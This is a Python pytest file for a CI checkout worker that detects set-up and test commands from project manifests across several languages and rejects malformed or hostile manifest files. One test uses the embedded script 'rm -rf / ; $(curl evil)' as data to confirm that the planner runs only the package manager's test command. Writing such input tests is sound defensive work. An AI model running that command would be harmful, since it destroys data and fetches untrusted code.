"""Set-up and test commands by convention: pure detection from file names and manifest text."""

from __future__ import annotations

import json
import re

import pytest

from workers.checkout.convention_plan import detect
from workers.checkout.conventions import Convention, NoConvention, Seen
from workers.checkout.python_conventions import Interpreter

WORKER = Interpreter("/usr/bin/python3.11", (3, 11, 7), worker=True)
OTHER = Interpreter("/usr/bin/python3.12", (3, 12, 0))
VENV = "/job/venv"
PROJECT = "[project]\nname='x'\n"


def _seen(
    files: dict[str, str] | list[str], tools: tuple[str, ...] = (), unreadable: dict[str, str] | None = None
) -> Seen:
    texts = files if isinstance(files, dict) else {}
    return Seen(frozenset(files), dict(texts), unreadable or {}, frozenset(tools))


def _detect(files: dict[str, str] | list[str], **kw: object) -> Convention:
    tools = kw.pop("tools", ())
    found, _ = detect(_seen(files, tools=tools), kw.pop("interpreters", (WORKER,)), VENV)  # type: ignore[arg-type]
    return found


def _package(**fields: object) -> str:
    return json.dumps({"name": "x", **fields})


@pytest.mark.parametrize(
    ("lockfile", "setup", "test"),
    [
        ("package-lock.json", "npm ci --no-audit --no-fund", "npm test"),
        ("yarn.lock", "corepack yarn install --frozen-lockfile", "corepack yarn test"),
        ("pnpm-lock.yaml", "corepack pnpm install --frozen-lockfile", "corepack pnpm test"),
    ],
)
def test_javascript_uses_the_package_manager_its_lockfile_names(lockfile: str, setup: str, test: str) -> None:
    found = _detect({"package.json": _package(scripts={"test": "jest"}), lockfile: ""})
    assert (found.setup, found.test, found.language) == ((setup,), test, "JavaScript")
    assert lockfile in found.why


def test_javascript_without_dependencies_needs_no_setup_and_typescript_is_named() -> None:
    found = _detect({"package.json": _package(scripts={"test": "node test.js"}), "tsconfig.json": ""})
    assert (found.setup, found.test, found.language) == ((), "npm test", "TypeScript")
    declared = _detect({"package.json": _package(scripts={"test": "t"}, packageManager="pnpm@8.6.0",
                                                 devDependencies={"vitest": "1"})})  # fmt: skip
    assert declared.setup == ("corepack pnpm install",) and declared.test == "corepack pnpm test"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("{not json", "package.json is not valid JSON (line 1)"),
        ("[1, 2]", "package.json must hold an object"),
        ("[" * 100_000 + "]" * 100_000, "package.json is not valid JSON"),
        (_package(), "package.json has no `test` script"),
        (_package(scripts=["test"]), "package.json has no `test` script"),
        (_package(scripts={"test": 5}), "package.json has no `test` script"),
        (_package(scripts={"test": "   "}), "package.json has no `test` script"),
        (_package(scripts={"test": 'echo "Error: no test specified" && exit 1'}), "no `test` script"),
        (_package(scripts={"test": "x" * 5000}), "over 2,000 characters"),
    ],
)
def test_hostile_package_json_is_one_clear_error(text: str, message: str) -> None:
    with pytest.raises(NoConvention, match=re.escape(message)) as caught:
        _detect({"package.json": text})
    assert "declare `test:`" in str(caught.value) or "add one" in str(caught.value)


def test_a_script_with_a_weird_name_or_shell_text_is_run_through_the_manager_not_pasted() -> None:
    # The script is the repository's code anyway (it runs in the sandbox); the plan names only `npm test`.
    found = _detect({"package.json": _package(scripts={"test": "rm -rf / ; $(curl evil)", "te st;": "x"})})
    assert found.test == "npm test"


def test_unreadable_manifest_is_reported_with_its_reason() -> None:
    seen = _seen(["package.json"], unreadable={"package.json": "is larger than 1024 KiB"})
    with pytest.raises(NoConvention, match=r"package\.json is larger than 1024 KiB; declare"):
        detect(seen, (WORKER,), VENV)


def test_go_rust_and_java_conventions() -> None:
    assert _detect(["go.mod", "main.go"]) == Convention("Go", ("go mod download",), "go test ./...", "go.mod")
    rust = _detect(["Cargo.toml", "src/lib.rs"])
    assert (rust.setup, rust.test) == (("cargo fetch",), "cargo test --offline")
    maven = _detect(["pom.xml"])
    assert maven.test == "mvn -B -q -o test" and maven.setup == ("mvn -B -q dependency:go-offline",)
    gradle = _detect(["build.gradle", "gradlew"])
    assert gradle.test == "./gradlew --no-daemon --offline test"
    assert _detect(["build.gradle.kts"]).test == "gradle --no-daemon --offline test"


def test_config_setup_without_test_runs_before_the_conventions_own() -> None:
    found, _ = detect(_seen(["go.mod"]), (WORKER,), VENV, extra_setup=("make generate",))
    assert found.setup == ("make generate", "go mod download")


def test_nothing_known_is_a_clear_error() -> None:
    with pytest.raises(NoConvention, match=r"none of .*go.mod.* declare `test:`"):
        _detect(["main.c", "Makefile"])


# --- Python ---


def test_python_files_alone_run_the_workers_pytest_without_setup() -> None:
    found, venv = detect(_seen(["calc.py", "tests/test_calc.py"]), (WORKER,), VENV)
    assert found.setup == () and found.test.startswith("/usr/bin/python3.11 -m pytest") and not venv


def test_requirements_and_a_project_are_pip_installed_into_the_job_venv() -> None:
    files = {"requirements.txt": "", "pyproject.toml": "[project]\nname='x'\nversion='0'\n"}
    found, venv = detect(_seen(files), (WORKER,), VENV, lend=("LEND",))
    assert venv and found.setup[0] == f"/usr/bin/python3.11 -m venv --system-site-packages {VENV}"
    assert found.setup[1:] == ("LEND", f"{VENV}/bin/python -m pip install -q -r requirements.txt",
                               f"{VENV}/bin/python -m pip install -q -e .")  # fmt: skip
    assert found.test.startswith(f"{VENV}/bin/python -m pytest")


@pytest.mark.parametrize(
    ("files", "tools", "installer", "note"),
    [
        ({"poetry.lock": ""}, ("poetry",), "poetry install --no-interaction", "names poetry"),
        ({"pyproject.toml": "[tool.poetry]\nname='x'\n"}, (), "pip install -q -e .", "lacks: pip instead"),
        ({"uv.lock": "", "pyproject.toml": PROJECT}, ("uv",), "uv sync --inexact --frozen", "uv"),
        ({"pdm.lock": ""}, ("pdm",), "pdm install --no-self", "names pdm"),
        ({"pyproject.toml": PROJECT + "[tool.hatch.envs.x]\n"}, (), "pip install -q -e .", "pip instead"),
        ({"hatch.toml": "", "pyproject.toml": PROJECT}, ("hatch",), "hatch env create", "names hatch"),
    ],
)  # fmt: skip
def test_python_installer_is_the_one_its_files_declare(
    files: dict[str, str], tools: tuple[str, ...], installer: str, note: str
) -> None:
    found = _detect(files, tools=tools)
    assert any(installer in command for command in found.setup), found.setup
    assert note in found.why


def test_tox_and_nox_run_when_present_and_installed() -> None:
    tox = _detect({"tox.ini": "", "setup.py": ""}, tools=("tox",))
    assert tox.setup == ("tox --notest --skip-missing-interpreters=true",) and tox.test.startswith("tox ")
    nox = _detect({"noxfile.py": ""}, tools=("nox",))
    assert nox.test == "nox --reuse-existing-virtualenvs --no-install"
    without = _detect({"noxfile.py": ""})
    assert "-m pytest" in without.test and "no nox: pytest instead" in without.why


@pytest.mark.parametrize(
    ("spec", "chosen"),
    [
        (">=3.8", WORKER),
        (">=3.12", OTHER),
        ("^3.12", OTHER),
        ("~3.11", WORKER),
        ("*", WORKER),
        ("<3.12", WORKER),
    ],
)
def test_the_interpreter_satisfying_requires_python_is_chosen(spec: str, chosen: Interpreter) -> None:
    key = (
        "[tool.poetry.dependencies]\npython"
        if spec.startswith(("^", "~", "*"))
        else "[project]\nrequires-python"
    )
    found = _detect({"pyproject.toml": f"{key} = '{spec}'\n"}, interpreters=(WORKER, OTHER))
    assert found.test.startswith(f"{VENV}/bin/python") or found.test.startswith(chosen.path)
    if chosen is OTHER:
        assert found.setup[0].startswith("/usr/bin/python3.12 -m venv")
        assert f"{VENV}/bin/python -m pip install -q pytest" in found.setup


def test_no_interpreter_satisfying_requires_python_is_a_clear_report() -> None:
    with pytest.raises(
        NoConvention, match=r"requires Python >=3\.99, and no interpreter .* 3\.11\.7 at /usr/bin"
    ):
        _detect({"pyproject.toml": "[project]\nrequires-python = '>=3.99'\n"})


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[project\nname=", "pyproject.toml is not valid TOML"),
        ("project = 5\n", "`project` must be a table"),
        ("[project]\nrequires-python = 3.8\n", "must be a short string"),
        ("[project]\nrequires-python = 'banana'\n", "'banana' is not a Python version specifier"),
        ("[project]\nrequires-python = '" + ">=3," * 100 + "'\n", "must be a short string"),
        ("a = " + "[" * 50_000 + "]" * 50_000 + "\n", "pyproject.toml is not valid TOML"),
        ("[tool]\npoetry = 'x'\n", "`poetry` must be a table"),
    ],
)
def test_hostile_pyproject_is_one_clear_error(text: str, message: str) -> None:
    with pytest.raises(NoConvention, match=message):
        _detect({"pyproject.toml": text})
